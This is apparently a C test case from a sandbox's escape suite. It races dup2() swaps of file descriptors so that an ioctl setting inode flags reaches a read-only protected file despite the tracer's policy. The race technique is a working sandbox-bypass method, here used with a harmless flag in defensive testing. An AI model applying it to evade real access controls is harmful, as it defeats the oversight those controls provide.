/*
 * Vector 3 (TOCTOU on an fd), for chattr: ioctl(FS_IOC_SETFLAGS) is decided
 * on the file its fd names (a read-only fd of protected/victim.txt may not
 * change it), but unlike fchmod & co. (tracer/pin.c pin_fdfile: "chattr's
 * ioctls keep their fd") it runs on the fd as it is when the kernel looks.
 * A thread dup2()s the read-only fd of victim.txt and a decoy in work/ in
 * turn onto fd 100 while the main thread toggles FS_NODUMP_FL (chattr +d,
 * no capability needed, harmless) through fd 100 for 5 s.
 * Policy esc_chattr_dup2_race.yaml: protected/victim.txt read-only.
 * success = victim.txt's inode flags changed.
 * expect: ptrace_file
 * expect-match: victim.txt
 */
#include "esc.h"
#include <linux/fs.h>
#include <sys/ioctl.h>

#define TARGET_FD 100

static int ro, decoy;

int main(void)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	int before, now, dflags;
	long tries = 0;

	ro = open(victim, O_RDONLY);
	if (ro < 0)
		esc_broken("open %s read-only: %s", victim, strerror(errno));
	decoy = open(esc_fmt("%s/decoy", esc_work()), O_RDWR | O_CREAT, 0644);
	if (decoy < 0)
		esc_broken("decoy: %s", strerror(errno));
	if (ioctl(ro, FS_IOC_GETFLAGS, &before) < 0 || ioctl(decoy, FS_IOC_GETFLAGS, &dflags) < 0)
		esc_skip("FS_IOC_GETFLAGS: %s (no inode flags on this file system)", strerror(errno));
	esc_dup2_flip_start(decoy, ro, TARGET_FD);
	for (double end = esc_now() + esc_race_seconds(); esc_now() < end; tries++) {
		int f = before ^ FS_NODUMP_FL;

		ioctl(TARGET_FD, FS_IOC_SETFLAGS, &f);
		if (ioctl(ro, FS_IOC_GETFLAGS, &now) == 0 && now != before) {
			esc_dup2_flip_stop();
			ioctl(ro, FS_IOC_SETFLAGS, &before); /* put it back (natively) */
			esc_success("chattr +d reached protected/victim.txt through a swapped fd "
				    "after %ld tries (flags %#x -> %#x)",
				    tries, before, now);
		}
	}
	esc_dup2_flip_stop();
	esc_blocked("protected/victim.txt kept its flags in %ld tries", tries);
}
